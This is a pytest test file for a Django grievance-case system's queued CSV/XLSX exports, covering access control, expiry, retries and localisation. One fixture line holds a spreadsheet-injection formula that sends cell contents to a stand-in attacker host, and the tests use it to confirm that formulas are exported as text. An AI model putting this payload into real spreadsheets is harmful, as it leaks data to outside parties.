"""Large case exports: written by a task, waited for on "My exports", downloaded by their
requester only, with the same rows as a streamed export, and gone after a day."""

import csv
import datetime
import io
import zoneinfo

import pytest
from django.contrib.auth.models import Group
from django.core.files.base import ContentFile
from django.core.management import call_command
from django.test import override_settings
from django.urls import reverse
from django.utils import timezone
from django_tasks import TaskResultStatus
from django_tasks_db.models import DBTaskResult
from openpyxl import load_workbook
from wagtail.models import ModelLogEntry
from wagtail.users.models import UserProfile

from grievances.cases.models import Case
from grievances.cases.roles import OPERATOR_GROUP, SYSTEM_OWNER_GROUP
from grievances.cases.storage import private_storage
from grievances.factories import CaseFactory, StaffFactory
from grievances.tracker import queued_exports
from grievances.tracker.queued_exports import CaseExport, delete_expired_exports
from grievances.tracker.viewsets import prepare_case_export
from home.roles import EDITOR_GROUP
from operations.worker import Worker
from tests.operations.conftest import manage, requires_postgres

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://penyerang.example/?d="&A2,"Klik")'
EXPORTS_URL = "/admin/kasus/ekspor/"
JAKARTA = zoneinfo.ZoneInfo("Asia/Jakarta")


@pytest.fixture
def queue():
    """TASKS_BACKEND=database: a queued export waits for a worker."""
    with override_settings(
        TASKS_BACKEND="database", TASKS={"default": {"BACKEND": "operations.queue.QueueBackend"}}
    ):
        yield


@pytest.fixture(autouse=True)
def _no_export_files_of_other_tests():
    """The test suite's private storage lives in memory for the whole process."""
    storage = private_storage()
    for name in stored_exports():
        storage.delete(name)


@pytest.fixture
def small_threshold(settings):
    settings.GRIEVANCE_EXPORT_INLINE_MAX_ROWS = 2


@pytest.fixture
def operator(hukatan):
    return StaffFactory(username="op-ekspor-besar", role=OPERATOR_GROUP, federation=hukatan)


@pytest.fixture
def cases(hukatan, nikeuba):
    return {
        "handling": [
            CaseFactory(federation=hukatan, status="handling", employer=FORMULA, risk_retaliation=True),
            CaseFactory(federation=hukatan, status="handling", employer="PT Sawit Contoh"),
            CaseFactory(federation=hukatan, status="handling", employer="PT Lain"),
        ],
        "received": CaseFactory(federation=hukatan, employer="PT Baru"),
        "elsewhere": CaseFactory(federation=nikeuba, status="handling", employer="PT Nikeuba"),
    }


def ask(client, export_format="csv", **query):
    return client.get(reverse("grievances_case:index"), {"export": export_format, **query})


def csv_rows(body):
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def xlsx_rows(body):
    sheet = load_workbook(io.BytesIO(body)).active
    rows = list(sheet.iter_rows())
    headers = [cell.value for cell in rows[0]]
    for row in rows[1:]:
        assert all(cell.data_type == "s" for cell in row if cell.value is not None), "text, never a formula"
    return [{header: cell.value or "" for header, cell in zip(headers, row, strict=True)} for row in rows[1:]]


READ = {"csv": csv_rows, "xlsx": xlsx_rows}


def cache_directives(response):
    return {directive.strip() for directive in response["Cache-Control"].split(",")}


def body_of(response):
    return b"".join(response.streaming_content)


def queue_export(client, django_capture_on_commit_callbacks, export_format="csv", **query):
    """Ask for a large export; the user lands on "My exports". Returns the export."""
    with django_capture_on_commit_callbacks(execute=True):
        response = ask(client, export_format, **query)
    assert response.status_code == 302
    assert response["Location"] == EXPORTS_URL
    return CaseExport.objects.latest("pk")


def download(client, export):
    return client.get(reverse("grievances_case_export_download", args=(export.pk,)))


def test_an_export_at_or_under_the_threshold_is_sent_at_once(client, operator, cases, settings):
    settings.GRIEVANCE_EXPORT_INLINE_MAX_ROWS = 3
    client.force_login(operator)
    response = ask(client, status="handling")
    assert response.status_code == 200 and response.streaming
    assert len(csv_rows(body_of(response))) == 3
    assert not CaseExport.objects.exists()


def test_a_large_export_sends_the_user_to_my_exports_and_in_process_is_ready_right_after(
    client, operator, cases, small_threshold, django_capture_on_commit_callbacks
):
    client.force_login(operator)
    with django_capture_on_commit_callbacks(execute=True):
        response = ask(client, status="handling")
    assert response.status_code == 302 and response["Location"] == EXPORTS_URL

    page = client.get(EXPORTS_URL)
    html = page.content.decode()
    assert "Ekspor 3 kasus sedang disiapkan" in html
    export = CaseExport.objects.get()
    assert export.status == CaseExport.Status.READY and export.rows == 3
    assert "Siap" in html and "Status: penanganan" in html
    assert reverse("grievances_case_export_download", args=(export.pk,)) in html
    assert 'http-equiv="refresh"' not in html, "nothing left to wait for"
    assert {"private", "no-store"} <= cache_directives(page)


def test_the_listing_links_to_my_exports(client, operator, cases):
    client.force_login(operator)
    html = client.get(reverse("grievances_case:index")).content.decode()
    assert f'href="{EXPORTS_URL}"' in html
    assert "Ekspor saya" in html


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_a_queued_export_holds_the_same_rows_as_a_streamed_one_and_formulas_stay_text(
    client, operator, cases, settings, django_capture_on_commit_callbacks, export_format
):
    client.force_login(operator)
    streamed = READ[export_format](body_of(ask(client, export_format, status="handling")))

    settings.GRIEVANCE_EXPORT_INLINE_MAX_ROWS = 1
    export = queue_export(client, django_capture_on_commit_callbacks, export_format, status="handling")
    queued = READ[export_format](body_of(download(client, export)))

    assert queued == streamed
    assert {row["Nomor referensi"] for row in queued} == {case.reference for case in cases["handling"]}
    assert "'" + FORMULA in {row["Pemberi kerja atau perusahaan"] for row in queued}


def test_the_download_is_an_uncached_attachment_of_the_right_type(
    client, operator, cases, small_threshold, django_capture_on_commit_callbacks
):
    client.force_login(operator)
    for export_format, content_type in (
        ("csv", "text/csv; charset=utf-8"),
        ("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    ):
        export = queue_export(client, django_capture_on_commit_callbacks, export_format)
        response = download(client, export)
        assert response.status_code == 200
        assert response["Content-Type"] == content_type
        assert {"private", "no-store"} <= cache_directives(response)
        day = timezone.localtime(export.created_at).date().isoformat()
        assert response["Content-Disposition"] == f'attachment; filename="kasus-{day}.{export_format}"'


def test_each_exported_case_is_logged_once_when_the_file_is_ready(
    client, operator, cases, small_threshold, django_capture_on_commit_callbacks
):
    client.force_login(operator)
    export = queue_export(client, django_capture_on_commit_callbacks, status="handling")
    logged = ModelLogEntry.objects.filter(action="grievances.export")
    assert sorted(logged.values_list("object_id", flat=True)) == sorted(
        str(case.pk) for case in cases["handling"]
    )
    assert set(logged.values_list("user", flat=True)) == {operator.pk}
    assert all(entry.data == {"format": "csv", "export": export.pk} for entry in logged)


def test_with_the_queue_the_export_waits_for_a_worker(
    client, operator, cases, small_threshold, queue, django_capture_on_commit_callbacks
):
    client.force_login(operator)
    export = queue_export(client, django_capture_on_commit_callbacks, status="handling")
    assert export.status == CaseExport.Status.WAITING
    assert DBTaskResult.objects.filter(task_path__endswith="prepare_case_export").count() == 1

    html = client.get(EXPORTS_URL).content.decode()
    assert "Menunggu" in html
    assert "akan siap sebentar lagi" in html
    assert '<meta http-equiv="refresh" content="10">' in html, "the page reloads itself"
    assert download(client, export).status_code == 404, "nothing to download yet"

    Worker(schedule=False).run_one()

    export.refresh_from_db()
    assert export.status == CaseExport.Status.READY
    html = client.get(EXPORTS_URL).content.decode()
    assert 'http-equiv="refresh"' not in html
    rows = csv_rows(body_of(download(client, export)))
    assert {row["Nomor referensi"] for row in rows} == {case.reference for case in cases["handling"]}


def test_the_task_reads_the_cases_the_requester_may_see_when_it_runs(
    client, operator, cases, small_threshold, queue, nikeuba, django_capture_on_commit_callbacks
):
    client.force_login(operator)
    export = queue_export(client, django_capture_on_commit_callbacks, status="handling")
    moved = cases["handling"][0]
    moved.federation = nikeuba
    moved.save()

    Worker(schedule=False).run_one()

    rows = csv_rows(body_of(download(client, export)))
    assert moved.reference not in {row["Nomor referensi"] for row in rows}
    assert cases["elsewhere"].reference not in {row["Nomor referensi"] for row in rows}
    assert len(rows) == 2


@pytest.mark.parametrize("change", ["lost the role", "deactivated"])
def test_a_requester_who_lost_access_before_the_task_ran_gets_a_failed_export_and_no_file(
    client, operator, cases, small_threshold, queue, django_capture_on_commit_callbacks, change
):
    client.force_login(operator)
    export = queue_export(client, django_capture_on_commit_callbacks)
    files_before = stored_exports()
    if change == "lost the role":
        operator.groups.remove(Group.objects.get(name=OPERATOR_GROUP))
    else:
        operator.is_active = False
        operator.save()

    Worker(schedule=False).run_one()

    export.refresh_from_db()
    assert export.status == CaseExport.Status.FAILED
    assert export.error == CaseExport.Error.ACCESS
    assert not export.file
    assert stored_exports() == files_before
    assert not ModelLogEntry.objects.filter(action="grievances.export").exists()


def test_a_requester_who_lost_the_case_role_after_it_was_ready_cannot_download_it(
    client, operator, cases, small_threshold, django_capture_on_commit_callbacks
):
    # Still in the admin as an editor, no longer an operator.
    operator.groups.add(Group.objects.get(name=EDITOR_GROUP))
    client.force_login(operator)
    export = queue_export(client, django_capture_on_commit_callbacks)
    assert download(client, export).status_code == 200
    operator.groups.remove(Group.objects.get(name=OPERATOR_GROUP))
    assert download(client, export).status_code == 404


def test_the_failed_export_tells_the_requester_why(client, operator, cases, small_threshold):
    export = CaseExport.objects.create(
        requested_by=operator,
        export_format="csv",
        status=CaseExport.Status.FAILED,
        error=CaseExport.Error.ACCESS,
        language="id",
        time_zone="Asia/Jakarta",
        expires_at=timezone.now() + datetime.timedelta(hours=1),
    )
    client.force_login(operator)
    html = client.get(EXPORTS_URL).content.decode()
    assert "Gagal" in html
    assert "tidak ada yang diekspor" in html
    assert reverse("grievances_case_export_download", args=(export.pk,)) not in html


@pytest.mark.parametrize("who", ["another federation's operator", "a colleague", "a system owner"])
def test_nobody_but_the_requester_can_see_or_download_an_export(
    client, operator, cases, small_threshold, hukatan, nikeuba, django_capture_on_commit_callbacks, who
):
    client.force_login(operator)
    export = queue_export(client, django_capture_on_commit_callbacks)
    other = {
        "another federation's operator": lambda: StaffFactory(role=OPERATOR_GROUP, federation=nikeuba),
        "a colleague": lambda: StaffFactory(role=OPERATOR_GROUP, federation=hukatan),
        "a system owner": lambda: StaffFactory(role=SYSTEM_OWNER_GROUP),
    }[who]()
    client.force_login(other)
    assert download(client, export).status_code == 404
    html = client.get(EXPORTS_URL).content.decode()
    assert reverse("grievances_case_export_download", args=(export.pk,)) not in html


def test_an_anonymous_visitor_is_sent_to_sign_in(
    client, operator, cases, small_threshold, django_capture_on_commit_callbacks
):
    client.force_login(operator)
    export = queue_export(client, django_capture_on_commit_callbacks)
    client.logout()
    for url in (EXPORTS_URL, reverse("grievances_case_export_download", args=(export.pk,))):
        response = client.get(url)
        assert response.status_code == 302
        assert response["Location"].startswith(reverse("wagtailadmin_login"))


def stored_exports():
    storage = private_storage()
    if not storage.exists("exports"):
        return set()
    return {f"exports/{name}" for name in storage.listdir("exports")[1]}


def test_running_the_task_again_does_the_work_once(
    client, operator, cases, small_threshold, django_capture_on_commit_callbacks
):
    client.force_login(operator)
    export = queue_export(client, django_capture_on_commit_callbacks, status="handling")
    name = export.file.name
    files = stored_exports()

    result = prepare_case_export.enqueue(export.pk)

    assert result.status == TaskResultStatus.SUCCESSFUL
    export.refresh_from_db()
    assert export.file.name == name
    assert stored_exports() == files
    assert ModelLogEntry.objects.filter(action="grievances.export").count() == 3


def test_an_export_a_killed_worker_left_half_done_is_written_again_in_full(
    client, operator, cases, small_threshold, queue, django_capture_on_commit_callbacks
):
    client.force_login(operator)
    export = queue_export(client, django_capture_on_commit_callbacks, status="handling")
    # The worker claimed it, started writing, and died: the queue gives the task to another.
    CaseExport.objects.filter(pk=export.pk).update(status=CaseExport.Status.PREPARING)

    Worker(schedule=False).run_one()

    export.refresh_from_db()
    assert export.status == CaseExport.Status.READY
    assert len(csv_rows(body_of(download(client, export)))) == 3
    assert ModelLogEntry.objects.filter(action="grievances.export").count() == 3


class BrokenStorage:
    def save(self, name, content):
        raise OSError("disk full")


def test_a_failed_write_is_tried_again_by_the_queue(
    client, operator, cases, small_threshold, queue, django_capture_on_commit_callbacks, monkeypatch
):
    client.force_login(operator)
    export = queue_export(client, django_capture_on_commit_callbacks)
    worker = Worker(schedule=False)
    with monkeypatch.context() as patch:
        patch.setattr(queued_exports, "private_storage", BrokenStorage)
        worker.run_one()
    export.refresh_from_db()
    assert export.status == CaseExport.Status.WAITING, "a later attempt will write it"

    DBTaskResult.objects.update(run_after=timezone.now())
    worker.run_one()
    export.refresh_from_db()
    assert export.status == CaseExport.Status.READY


def test_a_failed_write_in_process_fails_the_export_with_a_message(
    client, operator, cases, small_threshold, django_capture_on_commit_callbacks, monkeypatch
):
    monkeypatch.setattr(queued_exports, "private_storage", BrokenStorage)
    client.force_login(operator)
    export = queue_export(client, django_capture_on_commit_callbacks)
    assert export.status == CaseExport.Status.FAILED
    assert export.error == CaseExport.Error.FAILED
    assert not ModelLogEntry.objects.filter(action="grievances.export").exists()
    assert "Berkas tidak dapat ditulis" in client.get(EXPORTS_URL).content.decode()


def test_expired_exports_are_deleted_with_their_files(
    client, operator, cases, small_threshold, django_capture_on_commit_callbacks
):
    client.force_login(operator)
    old = queue_export(client, django_capture_on_commit_callbacks)
    later = timezone.now() + datetime.timedelta(hours=25)
    new = queue_export(client, django_capture_on_commit_callbacks)
    CaseExport.objects.filter(pk=new.pk).update(expires_at=later + datetime.timedelta(hours=1))
    storage = private_storage()
    old_name, new_name = old.file.name, CaseExport.objects.get(pk=new.pk).file.name
    # A file whose run was killed between saving it and marking its export ready.
    orphan = storage.save("exports/orphan.csv", ContentFile(b"reference\n"))

    assert delete_expired_exports(now=later) == (1, 2)

    assert list(CaseExport.objects.values_list("pk", flat=True)) == [new.pk]
    assert not storage.exists(old_name) and not storage.exists(orphan)
    assert storage.exists(new_name)


def test_an_expired_export_cannot_be_downloaded_before_it_is_swept(
    client, operator, cases, small_threshold, django_capture_on_commit_callbacks
):
    client.force_login(operator)
    export = queue_export(client, django_capture_on_commit_callbacks)
    CaseExport.objects.filter(pk=export.pk).update(expires_at=timezone.now())
    assert download(client, export).status_code == 404
    assert (
        reverse("grievances_case_export_download", args=(export.pk,))
        not in client.get(EXPORTS_URL).content.decode()
    )


def test_the_housekeeping_is_scheduled_and_has_a_command_for_cron(
    client, operator, cases, small_threshold, settings, django_capture_on_commit_callbacks
):
    assert {
        "task": "grievances.tracker.queued_exports.delete_expired_exports_task",
        "every": 3600,
    } in settings.TASK_SCHEDULE
    client.force_login(operator)
    export = queue_export(client, django_capture_on_commit_callbacks)
    CaseExport.objects.filter(pk=export.pk).update(expires_at=timezone.now())
    out = io.StringIO()
    call_command("delete_expired_exports", stdout=out)
    assert "1 export(s)" in out.getvalue()
    assert not CaseExport.objects.exists()


def test_an_export_is_in_the_language_and_time_zone_the_user_chose_streamed_or_queued(
    client, operator, cases, settings, django_capture_on_commit_callbacks
):
    profile = UserProfile.get_for_user(operator)
    profile.preferred_language, profile.current_time_zone = "en", "Asia/Jayapura"
    profile.save()
    Case.objects.filter(pk=cases["handling"][0].pk).update(
        created_at=timezone.make_aware(datetime.datetime(2027, 1, 13, 14, 2), timezone=JAKARTA)
    )
    client.force_login(operator)
    # The streamed rows are sent after the view has returned, still in the user's language.
    streamed = csv_rows(body_of(ask(client, status="handling")))
    settings.GRIEVANCE_EXPORT_INLINE_MAX_ROWS = 1
    export = queue_export(client, django_capture_on_commit_callbacks, status="handling")
    queued = csv_rows(body_of(download(client, export)))

    assert queued == streamed
    row = next(row for row in queued if row["Reference"] == cases["handling"][0].reference)
    assert row["Status"] == "handling" and row["Fear of retaliation"] == "Yes"
    assert row["Received at"] == "13 January 2027 16:02", "Jayapura is two hours ahead of Jakarta"


@requires_postgres
@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_a_worker_process_writes_a_large_export_once(client, operator, cases, small_threshold, queue):
    client.force_login(operator)
    response = ask(client, status="handling")
    assert response.status_code == 302
    export = CaseExport.objects.get()
    assert export.status == CaseExport.Status.WAITING

    workers = [manage("task_worker", "--batch", "--no-schedule", "--interval", "0.1") for _ in range(2)]
    outputs = [worker.communicate(timeout=300)[0] for worker in workers]

    assert all(worker.returncode == 0 for worker in workers), outputs
    export.refresh_from_db()
    assert export.status == CaseExport.Status.READY and export.rows == 3 and export.file.name
    assert ModelLogEntry.objects.filter(action="grievances.export").count() == 3


def test_a_queued_export_of_many_cases_is_written_as_quickly_as_one_of_few(
    client,
    operator,
    hukatan,
    small_threshold,
    django_capture_on_commit_callbacks,
    django_assert_max_num_queries,
):
    """The task reads the listing's cases with every column the export writes: a column left for
    later would be read with a query per row (an export of 10,000 cases once took minutes)."""
    client.force_login(operator)
    CaseFactory.create_batch(3, federation=hukatan, status="handling", employer="PT Sedikit")
    with django_assert_max_num_queries(60) as few:
        queue_export(client, django_capture_on_commit_callbacks, status="handling")
    CaseFactory.create_batch(30, federation=hukatan, status="handling", employer="PT Banyak")
    with django_assert_max_num_queries(len(few.captured_queries)):
        export = queue_export(client, django_capture_on_commit_callbacks, status="handling")
    assert export.status == CaseExport.Status.READY and export.rows == 33
    assert "PT Banyak" in body_of(download(client, export)).decode("utf-8-sig")
